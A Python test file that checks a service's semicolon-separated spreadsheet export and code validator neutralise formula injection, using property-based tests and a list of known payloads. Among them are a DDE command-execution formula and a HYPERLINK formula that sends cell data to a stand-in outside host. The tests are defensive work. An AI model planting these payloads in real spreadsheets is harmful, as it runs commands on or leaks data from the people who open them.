"""What leaves the service for a spreadsheet: no cell of it computes anything."""

import csv
import io
import re
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from aggregates.commande import Code
from api.archive.tableur import table
from rules.tirages import Unite, liste_canonique

#: How a spreadsheet recognises a formula, spaces and marks before it left out.
FORMULE = re.compile(r"^[\s\x00\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_no_text_of_an_archive_becomes_a_formula(textes: list[str]) -> None:
    lue = table([f"c{n}" for n in range(len(textes))], [textes]).decode("utf-8-sig")
    entete, *lignes = csv.reader(io.StringIO(lue, newline=""), delimiter=";", strict=True)
    assert len(lignes) == 1, "a text cannot open a line of its own"
    assert len(lignes[0]) == len(entete), "nor a cell"
    assert not any(FORMULE.match(cellule) for cellule in lignes[0])


@pytest.mark.parametrize(
    "piege",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        '=HYPERLINK("https://ailleurs.example?x="&A1,"voir")',
        "=cmd|' /C calc'!A0",
        "\x00=1",
        "\ufeff=1",
        "\u200b=1",
    ],
)
def test_the_known_formulas_are_texts(piege: str) -> None:
    [_, cellule] = table(["c"], [[piege]]).decode("utf-8-sig").split("\r\n", 1)
    assert cellule.lstrip('"').startswith("'")


CODES = st.from_regex(r"\A[A-Za-z0-9][A-Za-z0-9_.-]{0,20}\Z")


@given(st.uuids(), st.integers(-(10**12), 10**12), st.uuids(), CODES, CODES)
def test_the_list_that_a_digest_names_holds_no_formula(
    depense: UUID, montant: int, operation: UUID, plie: str, poste: str
) -> None:
    # Its bytes are hashed: nothing may be written before a cell. Nothing has to be.
    liste = liste_canonique([Unite(str(depense), montant, str(operation), plie, poste)])
    for cellule in liste.splitlines()[1].split(";"):
        assert not FORMULE.match(cellule) or re.fullmatch(r"-\d+", cellule)


@pytest.mark.parametrize("piege", ["=A", "+A", "-A", "@A", " =A", "A;=B", "A\n=B", 'A"', "\uff1dA"])
def test_a_code_of_that_list_cannot_be_one(piege: str) -> None:
    with pytest.raises(ValidationError):
        TypeAdapter(Code).validate_python(piege)
